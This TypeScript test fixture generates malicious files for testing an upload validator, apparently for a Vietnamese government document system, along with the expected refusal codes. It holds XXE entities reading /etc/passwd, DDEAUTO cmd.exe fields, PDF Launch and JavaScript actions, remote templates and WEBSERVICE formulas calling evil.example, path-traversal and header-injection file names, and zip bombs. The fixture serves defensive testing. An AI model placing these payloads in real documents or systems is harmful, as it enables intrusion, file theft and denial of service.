import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import writeXlsxFile from 'write-excel-file/node'
import { renderDocx } from '#documents/docx.ts'
import { officeOf, paragraph, relations } from './files.ts'
import { papers } from './papers.ts'
import { pdfOf } from './plans/render.ts'

/** A file that somebody might send, and what must come of it: the code of a refusal, `stored`, or either. */
export interface Hostile {
  readonly what: string
  readonly name: string
  readonly becomes: string
  bytes(): Buffer | Promise<Buffer>
}

const OFFICE = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const HTML = '<!doctype html><html><body><script>alert(1)</script></body></html>'
const EICAR = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

/**
 * Files of every kind of malice that is known to have hurt somebody, `count` in all: each that is of its own kind, and as many as
 * there is room for, evenly, of those that multiply a kind (every mark of secrecy in every format) or change an ordinary file at random.
 */
export async function hostileFiles(count: number): Promise<Hostile[]> {
  const plain = await ordinary()
  const own = [...papersOfOffices(), ...texts(plain), ...images(plain), ...pdfs(plain), ...offices(), ...names(plain)]
  const multiplied = [...markup(), ...cut(plain), ...secrets(), ...misnamed(plain), swelling('xlsx')]
  const chance = sequence(7)
  const kinds = Object.entries(plain)
  const changed = Array.from({ length: 300 - own.length - multiplied.length }, (_, at) => {
    const [kind, bytes] = kinds[at % kinds.length]!
    return file(`${kind} changed at random, ${at}`, `x${at}.${kind}`, 'any', mutated(bytes, chance))
  })
  const more = [...multiplied, ...changed]
  const room = count - own.length
  return [...own, ...Array.from({ length: room }, (_, at) => more[Math.floor((at * more.length) / room)]!)]
}

function file(
  what: string,
  name: string,
  becomes: string,
  bytes: Buffer | string | (() => Buffer | Promise<Buffer>),
): Hostile {
  return { what, name, becomes, bytes: typeof bytes === 'function' ? bytes : () => Buffer.from(bytes as string) }
}

type Plain = Readonly<Record<'pdf' | 'docx' | 'xlsx' | 'jpg' | 'png' | 'webp' | 'txt', Buffer>>

async function ordinary(): Promise<Plain> {
  const image = () => sharp({ create: { width: 60, height: 40, channels: 3, background: 'green' } })
  return {
    pdf: pdf(),
    docx: await officeOf('docx'),
    xlsx: await officeOf('xlsx'),
    jpg: await image().jpeg().toBuffer(),
    png: await image().png().toBuffer(),
    webp: await image().webp().toBuffer(),
    txt: Buffer.from('Báo cáo kết quả cải cách hành chính\nMục 1: đã làm\n'),
  }
}

function markup(): Hostile[] {
  const svg = '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
  const pages = {
    html: HTML,
    svg,
    xhtml: `<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><script>1</script></html>`,
    spaced: `\n\n   ${HTML}`,
    late: `a\n${HTML}`,
  }
  return Object.entries(pages).flatMap(([what, text]) =>
    ['txt', 'png', 'pdf', 'docx'].map((extension) =>
      file(`${what} as ${extension}`, `a.${extension}`, 'FILE_TYPE_UNKNOWN', text),
    ),
  )
}

/** Every ordinary file under the name of every other kind. */
function misnamed(plain: Plain): Hostile[] {
  const kinds = Object.keys(plain)
  return Object.entries(plain).flatMap(([kind, bytes]) =>
    kinds
      .filter((other) => other !== kind)
      .map((other) => file(`${kind} named ${other}`, `a.${other}`, 'FILE_EXTENSION_WRONG', bytes)),
  )
}

function cut(plain: Plain): Hostile[] {
  return (['jpg', 'png', 'webp'] as const).flatMap((kind) =>
    [0.2, 0.5, 0.9].map((part) =>
      file(
        `${kind} cut at ${part}`,
        `a.${kind}`,
        'FILE_DAMAGED',
        plain[kind].subarray(0, Math.floor(plain[kind].length * part)),
      ),
    ),
  )
}

function texts(plain: Plain): Hostile[] {
  return [
    ...['svg', 'html', 'exe', 'docm', 'js', 'pdf.html', 'com', 'zip', 'doc', 'hta'].map((extension) =>
      file(`a .${extension}`, `a.${extension}`, 'FILE_TYPE_UNKNOWN', plain.txt),
    ),
    file('no bytes', 'a.txt', 'FILE_EMPTY', ''),
    file('control characters', 'a.txt', 'FILE_TYPE_UNKNOWN', Buffer.from([0x61, 0, 1, 2, 0x62])),
    file('an old code page', 'a.txt', 'FILE_TYPE_UNKNOWN', Buffer.from([0xc0, 0xe1, 0x62, 0xff])),
    file('RTF', 'a.txt', 'FILE_TYPE_UNKNOWN', '{\\rtf1 {\\object\\objdata 01}}'),
    file('a program', 'a.txt', 'FILE_TYPE_UNKNOWN', Buffer.from('MZ\u0090\u0000\u0003', 'latin1')),
    // Only a scanner knows it: stored as "not scanned", never as clean.
    file('EICAR', 'eicar.txt', 'stored', EICAR),
  ]
}

function images(plain: Plain): Hostile[] {
  return [
    file('a picture of 14000² points in 25 kB', 'bom.png', 'FILE_SWELLS', () => pngOf(14_000, 14_000)),
    file('what a good telephone takes, 48 million points', 'IMG_1.jpg', 'stored', () =>
      sharp({ create: { width: 8064, height: 6048, channels: 3, background: 'teal' } })
        .jpeg()
        .toBuffer(),
    ),
    file('a JPEG of more points than any telephone takes', 'IMG_2.jpg', 'FILE_SWELLS', () =>
      sharp({ create: { width: 16_000, height: 7000, channels: 3, background: 'teal' } })
        .jpeg()
        .toBuffer(),
    ),
    file('a picture that says it has 2³¹ points a side', 'a.png', 'any', () => pngOf(0x7fffffff, 1)),
    file('a page behind a JPEG', 'a.jpg', 'stored', Buffer.concat([plain.jpg, Buffer.from(HTML)])),
    file('a page behind a PNG', 'a.png', 'stored', Buffer.concat([plain.png, Buffer.from(HTML)])),
    file('an archive behind a JPEG', 'a.jpg', 'stored', Buffer.concat([plain.jpg, plain.docx])),
  ]
}

function pdfs(plain: Plain): Hostile[] {
  const runs = (what: string, catalog: string, more: readonly string[] = []) =>
    file(`PDF: ${what}`, 'a.pdf', 'FILE_RUNS', pdf(catalog, more))
  return [
    runs('a script on opening', '/OpenAction 6 0 R', ['<< /S /JavaScript /JS (app.alert\\(1\\)) >>']),
    runs('a named script', '/Names << /JavaScript << /Names [(a) 6 0 R] >> >>', ['<< /S /JavaScript /JS (1) >>']),
    runs('a program to launch', '/OpenAction 6 0 R', ['<< /S /Launch /F (cmd.exe) >>']),
    runs('a file inside', '/Names << /EmbeddedFiles << /Names [(a.exe) 6 0 R] >> >>', [
      '<< /Type /Filespec /F (a.exe) >>',
    ]),
    ...Object.entries({
      'a page of the network, opened unasked': ['/OpenAction 6 0 R', '<< /S /URI /URI (http://evil.example) >>'],
      'a form that sends itself': ['/OpenAction << /S /SubmitForm /F (http://evil.example) >>'],
      'a paper on somebody’s share': [
        '/OpenAction 6 0 R',
        '<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>',
      ],
      'a paper within another': ['/OpenAction 6 0 R', '<< /S /GoToE /F (a.pdf) >>'],
      'a page of the network when it is closed': ['/AA << /WC 6 0 R >>', '<< /S /#55RI /URI (http://evil.example) >>'],
    }).map(([what, [catalog, ...more]]) => file(`PDF: ${what}`, 'a.pdf', 'FILE_CALLS_OUT', pdf(catalog, more))),
    file('PDF: a page of the network, opened unasked, in packed objects', 'a.pdf', 'FILE_CALLS_OUT', () =>
      pdfOfObjects([
        '<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>',
        ...plainObjects,
        packed('6 0 << /S /URI /URI (http://evil.example) >>', 4),
      ]),
    ),
    file(
      'PDF: an ordinary link, pressed by whoever reads',
      'a.pdf',
      'stored',
      pdf('', ['<< /S /URI /URI (https://mau.example) >>']),
    ),
    file('PDF: a page to begin with', 'a.pdf', 'stored', pdf('/OpenAction [3 0 R /Fit]')),
    file('PDF: the letters of a script in the bytes of a picture', 'a.pdf', 'stored', () =>
      pdf('', ['<< /Type /XObject /Subtype /Image /Length 9 >>\nstream\nab /JS\x01c\nendstream']),
    ),
    file('PDF: an archive behind', 'a.pdf', 'FILE_RUNS', Buffer.concat([plain.pdf, plain.docx])),
    file('PDF: a page before', 'a.pdf', 'FILE_TYPE_UNKNOWN', Buffer.concat([Buffer.from(HTML), plain.pdf])),
    file(
      'PDF: a page in the head',
      'a.pdf',
      'FILE_TYPE_UNKNOWN',
      Buffer.concat([Buffer.from(`%PDF-1.4\n%${HTML}\n`), plain.pdf]),
    ),
    file('PDF: no end', 'a.pdf', 'FILE_DAMAGED', plain.pdf.subarray(0, plain.pdf.length - 40)),
    file('PDF: only a head', 'a.pdf', 'FILE_DAMAGED', '%PDF-1.7\n%%EOF'),
    file(
      'PDF: encrypted',
      'a.pdf',
      'any',
      Buffer.from(
        plain.pdf
          .toString('latin1')
          .replace('/Root 1 0 R', '/Root 1 0 R /Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (x) /P -4 >>'),
      ),
    ),
  ]
}

function offices(): Hostile[] {
  const docx = (what: string, becomes: string, more: Readonly<Record<string, string | Buffer>>) =>
    file(`DOCX: ${what}`, 'a.docx', becomes, () => officeOf('docx', 'Văn bản', more))
  const linked = (what: string, becomes: string, type: string, target: string) =>
    docx(what, becomes, { 'word/_rels/document.xml.rels': relations([`${OFFICE}/${type}`, target, 'External']) })
  const body = (inner: string) => ({ 'word/document.xml': `<w:document><w:body>${inner}</w:body></w:document>` })
  const command = (text: string) =>
    body(
      `<w:p><w:r><w:instrText>${text.slice(0, 2)}</w:instrText></w:r><w:r><w:instrText>${text.slice(2)}</w:instrText></w:r></w:p>`,
    )
  return [
    docx('reads a file (XXE)', 'FILE_DAMAGED', {
      'word/document.xml': `<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document><w:body>${paragraph('&x;')}</w:body></w:document>`,
    }),
    docx('a thousand million laughs', 'FILE_DAMAGED', {
      'word/_rels/document.xml.rels': '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;">]><Relationships/>',
    }),
    docx('a page inside (altChunk)', 'FILE_RUNS', {
      'word/_rels/document.xml.rels': relations([`${OFFICE}/aFChunk`, 'chunk.html']),
      'word/chunk.html': HTML,
    }),
    docx('an embedded program', 'FILE_RUNS', {
      'word/_rels/document.xml.rels': relations([`${OFFICE}/oleObject`, 'embeddings/o.bin']),
    }),
    docx('ActiveX', 'FILE_RUNS', { 'word/activeX/activeX1.bin': 'x' }),
    docx('macros', 'FILE_MACROS', { 'word/vbaProject.bin': 'x' }),
    docx('a macro document renamed', 'FILE_MACROS', {
      '[Content_Types].xml':
        '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    linked('a template on the network', 'FILE_CALLS_OUT', 'attachedTemplate', 'https://evil.example/t.dotm'),
    linked('a template on a share', 'FILE_CALLS_OUT', 'attachedTemplate', '\\\\evil\\share\\t.dotm'),
    linked('a template on a share, as a file', 'FILE_CALLS_OUT', 'attachedTemplate', 'file://evil/share/t.dotm'),
    linked('a template on the writer’s disk', 'stored', 'attachedTemplate', 'file:///C:\\Users\\a\\Normal.dotm'),
    linked('a picture on the network', 'FILE_CALLS_OUT', 'image', 'http://evil.example/a.png'),
    linked('a picture of this machine', 'FILE_CALLS_OUT', 'image', 'file:///etc/passwd'),
    linked('a linked object', 'FILE_RUNS', 'oleObject', 'http://evil.example/a'),
    linked('an ordinary link to a page', 'stored', 'hyperlink', 'https://thuvienphapluat.vn'),
    docx('DDE', 'FILE_RUNS', command('DDEAUTO c:\\\\windows\\\\cmd.exe')),
    docx('text of another file', 'FILE_CALLS_OUT', command('INCLUDETEXT "c:\\\\a.txt"')),
    docx('a picture of the network, in two runs', 'FILE_CALLS_OUT', {
      'word/document.xml': `<w:document><w:body><w:p><w:r><w:instrText>INCLUDEPICTURE "</w:instrText></w:r><w:r><w:instrText>ftp://evil.example/a.png"</w:instrText></w:r></w:p></w:body></w:document>`,
    }),
    docx('a picture of the writer’s disk', 'stored', command('INCLUDEPICTURE "C:\\\\Users\\\\a\\\\logo.png"')),
    docx('a macro document inside', 'FILE_RUNS', {
      'word/_rels/document.xml.rels': relations([`${OFFICE}/package`, 'embeddings/a.docm']),
    }),
    docx('a program inside', 'FILE_RUNS', { 'word/embeddings/a.exe': 'MZ' }),
    docx('the sheet behind a chart', 'stored', {
      'word/_rels/document.xml.rels': relations([`${OFFICE}/package`, 'embeddings/Microsoft_Excel_Sheet.xlsx']),
    }),
    docx('no document', 'any', { 'word/document.xml': '' }),
    swelling('docx'),
    file('DOCX: 5,000 parts', 'a.docx', 'FILE_SWELLS', () =>
      officeOf('docx', 'a', Object.fromEntries(Array.from({ length: 5000 }, (_, at) => [`word/${at}.bin`, '']))),
    ),
    file('DOCX: archives in archives', 'a.docx', 'stored', nested),
    file('DOCX: sizes that lie', 'a.docx', 'FILE_DAMAGED', async () => lying(await officeOf('docx', 'a'.repeat(5000)))),
    file('DOCX: a part that climbs out', 'a.docx', 'FILE_DAMAGED', async () =>
      climbing(await officeOf('docx', 'a', { 'aa/aa/passwd': 'x' })),
    ),
    file('XLSX: DDE', 'a.xlsx', 'FILE_RUNS', () =>
      officeOf('xlsx', 'a', {
        'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
      }),
    ),
    file('XLSX: a book on the network', 'a.xlsx', 'FILE_CALLS_OUT', () =>
      officeOf('xlsx', 'a', {
        'xl/externalLinks/_rels/externalLink1.xml.rels': relations([
          `${OFFICE}/externalLinkPath`,
          'https://evil.example/a.xlsx',
          'External',
        ]),
      }),
    ),
    file('XLSX: data of the network, fetched on opening', 'a.xlsx', 'FILE_CALLS_OUT', () =>
      officeOf('xlsx', 'a', {
        'xl/connections.xml':
          '<connections><connection id="1" refreshOnLoad="1"><webPr url="http://evil.example"/></connection></connections>',
      }),
    ),
    ...Object.entries({
      'WEBSERVICE("http://evil.example")': 'FILE_CALLS_OUT',
      '_xlfn.IMAGE("http://evil.example/a.png")': 'FILE_CALLS_OUT',
      "cmd|'/c calc'!A0": 'FILE_RUNS',
      'IF(A1="a|b",1,2)': 'stored',
      'SUM(A1:A9)': 'stored',
    }).map(([formula, becomes]) =>
      file(`XLSX: ${formula}`, 'a.xlsx', becomes, () =>
        officeOf('xlsx', 'a', {
          'xl/worksheets/sheet1.xml': `<worksheet><sheetData><row><c><f>${formula.replaceAll('"', '&quot;')}</f><v>1</v></c></row></sheetData></worksheet>`,
        }),
      ),
    ),
    ...Object.entries({
      'under a prefix': {
        'xl/worksheets/sheet1.xml':
          '<x:worksheet><x:sheetData><x:row><x:c><x:f>WEBSERVICE(&quot;http://evil.example&quot;)</x:f></x:c></x:row></x:sheetData></x:worksheet>',
      },
      'in a folder of its own': {
        'data/sheet1.xml': '<worksheet><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></worksheet>',
      },
      'in capitals': {
        'xl/worksheets/sheet1.XML': '<worksheet><f>WEBSERVICE(&quot;http://evil.example&quot;)</f></worksheet>',
      },
      'two bytes a letter': {
        'xl/worksheets/sheet1.xml': Buffer.from(
          '\ufeff<worksheet><f>WEBSERVICE("http://evil.example")</f></worksheet>',
          'utf16le',
        ),
      },
    }).map(([how, more]) =>
      file(`XLSX: a formula that fetches, ${how}`, 'a.xlsx', 'any-refusal', () => officeOf('xlsx', 'a', more)),
    ),
    docx('DDE under another prefix', 'FILE_RUNS', {
      'word/document.xml':
        '<q:document><q:body><q:p><q:fldSimple q:instr="DDEAUTO c:\\\\windows\\\\cmd.exe"/></q:p></q:body></q:document>',
    }),
    file('DOCX: behind a password', 'a.docx', 'FILE_ENCRYPTED', () =>
      Buffer.concat([
        Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
        Buffer.alloc(1024),
        Buffer.from('EncryptedPackage', 'utf16le'),
        Buffer.alloc(512),
      ]),
    ),
  ]
}

function swelling(kind: 'docx' | 'xlsx'): Hostile {
  return file(`${kind.toUpperCase()}: 300 MB in 300 kB`, `a.${kind}`, 'FILE_SWELLS', () =>
    officeOf(kind, 'a', { 'word/media/a.bin': Buffer.alloc(300_000_000) }),
  )
}

function names(plain: Plain): Hostile[] {
  return [
    'Báo cáo kết quả.txt'.normalize('NFD'),
    `${'ữ'.normalize('NFD').repeat(1300)}.txt`,
    `${'a'.repeat(4000)}.txt`,
    '../../../etc/cron.d/a.txt',
    '..\\..\\windows\\a.txt',
    'a\u202Etxt.exe.txt',
    'a"; filename="b.html.txt',
    "a'%0d%0aSet-Cookie: x=1.txt",
    '<img src=x onerror=alert(1)>.txt',
    'con.txt',
    '.htaccess.txt',
    'CỘNG HÒA 😀.txt',
  ].map((name) => file(`the name ${JSON.stringify(name).slice(0, 40)}`, name, 'stored', plain.txt))
}

function secrets(): Hostile[] {
  const stamps = ['MẬT', 'TỐI MẬT', 'TUYỆT MẬT', 'Độ mật: Mật']
  return stamps.flatMap((stamp) => [
    file(`${stamp} in text`, 'a.txt', 'FILE_SECRET', `UBND TỈNH MẪU\n${stamp}\nBáo cáo`),
    file(`${stamp} in DOCX`, 'a.docx', 'FILE_SECRET', () => officeOf('docx', `UBND TỈNH MẪU\n${stamp}\nBáo cáo`)),
    file(`${stamp} in a text box in the head`, 'a.docx', 'FILE_SECRET', () =>
      officeOf('docx', 'Báo cáo', {
        'word/header1.xml': `<w:hdr><w:p><w:r><w:txbxContent>${paragraph(stamp)}</w:txbxContent></w:r></w:p></w:hdr>`,
      }),
    ),
    file(`${stamp} in XLSX`, 'a.xlsx', 'FILE_SECRET', () => officeOf('xlsx', stamp)),
    ...Object.entries({
      'a cell of its own': `<sheetData><row><c t="inlineStr"><is><t>${stamp}</t></is></c></row></sheetData>`,
      'the result of a formula': `<sheetData><row><c t="str"><f>A1</f><v>${stamp}</v></c></row></sheetData>`,
      'the head of a printed page': `<sheetData/><headerFooter><oddHeader>&amp;C&amp;"Times New Roman,Bold"&amp;14${stamp}&amp;RTrang &amp;P</oddHeader></headerFooter>`,
    }).map(([where, inner]) =>
      file(`${stamp} in ${where} of a sheet`, 'a.xlsx', 'FILE_SECRET', () =>
        officeOf('xlsx', 'a', { 'xl/worksheets/sheet1.xml': `<worksheet>${inner}</worksheet>` }),
      ),
    ),
    ...Object.entries({
      'over two lines': stamp.split(' ').join('</w:t><w:br/><w:t>'),
      'letter by letter': stamp.replaceAll(' ', '  ').split('').join(' '),
    }).map(([how, text]) =>
      file(`${stamp} ${how}`, 'a.docx', 'FILE_SECRET', () =>
        officeOf('docx', 'a', {
          'word/document.xml': `<w:document><w:body><w:p><w:r><w:t>UBND TỈNH MẪU</w:t></w:r></w:p><w:p><w:r><w:t>${text}</w:t></w:r></w:p></w:body></w:document>`,
        }),
      ),
    ),
    file(`${stamp} in a part of its own folder`, 'a.docx', 'FILE_SECRET', () =>
      officeOf('docx', 'a', {
        'word/glossary/document.xml': `<w:document><w:body>${paragraph(stamp)}</w:body></w:document>`,
      }),
    ),
    ...[toTcvn3(stamp), toVni(stamp)].map((old, at) =>
      file(`${stamp} in the letters of ${at === 0 ? 'TCVN3' : 'VNI'}`, 'a.docx', 'FILE_SECRET', () =>
        officeOf('docx', `UBND\n${old}`),
      ),
    ),
  ])
}

/** Fonts of before Unicode, whose letters are read as others: .VnTimeH shows small letters as capitals. */
const toTcvn3 = (text: string) =>
  text
    .toLowerCase()
    .replaceAll('ậ', 'Ë')
    .replaceAll('ố', 'è')
    .replaceAll('ệ', 'Ö')
    .replaceAll('đ', '®')
    .replaceAll('ộ', 'é')
const toVni = (text: string) =>
  text
    .toUpperCase()
    .replaceAll('Ậ', 'AÄ')
    .replaceAll('Ố', 'OÁ')
    .replaceAll('Ệ', 'EÄ')
    .replaceAll('Đ', 'Ñ')
    .replaceAll('Ộ', 'OÄ')

/** What offices really send must come through. */
function papersOfOffices(): Hostile[] {
  const typeset = (text: string) => Buffer.from(pdfOf(`#set text(font: "Tinos")\n${text}`))
  return [
    file('an ordinary PDF', 'Báo cáo.pdf', 'stored', () => typeset('Báo cáo về công tác bảo vệ bí mật nhà nước')),
    file('a PDF with a stamp of secrecy', 'a.pdf', 'FILE_SECRET', () =>
      typeset('ỦY BAN NHÂN DÂN\n\nTỐI MẬT\n\nBáo cáo'),
    ),
    file('an ordinary DOCX', 'Báo cáo.docx', 'stored', async () => Buffer.from(await renderDocx(papers.unitReport))),
    file('a paper about secrets, in a heading of two lines', 'a.docx', 'stored', () =>
      officeOf('docx', 'CÔNG TÁC BẢO VỆ BÍ\nMẬT'),
    ),
    file('an ordinary XLSX', 'Phụ lục.xlsx', 'stored', () =>
      writeXlsxFile([[{ value: 'Số liệu' }, { value: 12 }]]).toBuffer(),
    ),
  ]
}

/** The objects after the catalogue of a paper with one empty page. */
const plainObjects = [
  '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
  '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>',
]

function packed(text: string, first: number, { filter = '/Filter /FlateDecode', begins = 'stream\n' } = {}): string {
  const bytes = deflateSync(Buffer.from(text)).toString('latin1')
  return `<< /Type /ObjStm /N 1 /First ${first} ${filter} /Length ${bytes.length} >>\n${begins}${bytes}\nendstream`
}

/** A PDF of one page; `catalog` and `more` objects (from 6 on) are what is hostile in it. */
export function pdf(catalog = '', more: readonly string[] = [], words = 'Bao cao ket qua'): Buffer {
  const stream = `BT /F1 12 Tf 72 720 Td (${words}) Tj ET`
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    `<< /Length ${stream.length} >>\nstream\n${stream}\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
    ...more,
  ]
  return pdfOfObjects(objects)
}

/** A PDF of these objects, the first its catalogue. */
export function pdfOfObjects(objects: readonly string[]): Buffer {
  let text = '%PDF-1.4\n'
  const places = objects.map((object, at) => {
    const place = text.length
    text += `${at + 1} 0 obj\n${object}\nendobj\n`
    return `${String(place).padStart(10, '0')} 00000 n \n`
  })
  const table = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${places.join('')}`
  return Buffer.from(
    `${text}${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${text.length}\n%%EOF\n`,
    'latin1',
  )
}

/** A black PNG of one bit a point; the sides that it claims need not be true beyond 20,000. */
function pngOf(width: number, height: number): Buffer {
  const head = Buffer.alloc(13)
  head.writeUInt32BE(width)
  head.writeUInt32BE(height, 4)
  head[8] = 1
  const rows = width > 20_000 ? Buffer.alloc(100) : Buffer.alloc((Math.ceil(width / 8) + 1) * height)
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type), data])
    const frame = Buffer.alloc(8)
    frame.writeUInt32BE(data.length)
    frame.writeInt32BE(crcOf(body), 4)
    return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
  }
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', head),
    chunk('IDAT', deflateSync(rows)),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

function crcOf(bytes: Buffer): number {
  let crc = -1
  for (const byte of bytes) {
    crc ^= byte
    for (let bit = 0; bit < 8; bit++) crc = (crc >>> 1) ^ (crc & 1 ? 0xedb88320 : 0)
  }
  return ~crc
}

async function nested(): Promise<Buffer> {
  let inner = await officeOf('docx', 'a', { 'word/media/a.bin': Buffer.alloc(1_000_000) })
  for (let depth = 0; depth < 6; depth++)
    inner = await officeOf('docx', 'a', { 'word/media/a.bin': inner, 'word/media/b.bin': inner })
  return inner
}

/** The list at the end says that every part is ten bytes long. */
function lying(zip: Buffer): Buffer {
  const copy = Buffer.from(zip)
  for (
    let at = copy.indexOf('PK\u0001\u0002', 0, 'latin1');
    at !== -1;
    at = copy.indexOf('PK\u0001\u0002', at + 1, 'latin1')
  )
    copy.writeUInt32LE(10, at + 24)
  return copy
}

function climbing(zip: Buffer): Buffer {
  return Buffer.from(zip.toString('latin1').replaceAll('aa/aa/passwd', '../../passwd'), 'latin1')
}

/** A few bytes changed, or cut, or doubled. */
function mutated(bytes: Buffer, chance: () => number): Buffer {
  const copy = Buffer.from(bytes)
  for (let times = 1 + Math.floor(chance() * 12); times > 0; times--)
    copy[Math.floor(chance() * copy.length)] = Math.floor(chance() * 256)
  const way = chance()
  return way < 0.3
    ? copy.subarray(0, 1 + Math.floor(chance() * copy.length))
    : way < 0.4
      ? Buffer.concat([copy, copy])
      : copy
}

/** The same numbers between 0 and 1 each time. */
function sequence(seed: number): () => number {
  let state = seed
  return () => {
    state = (Math.imul(state, 1664525) + 1013904223) >>> 0
    return state / 2 ** 32
  }
}
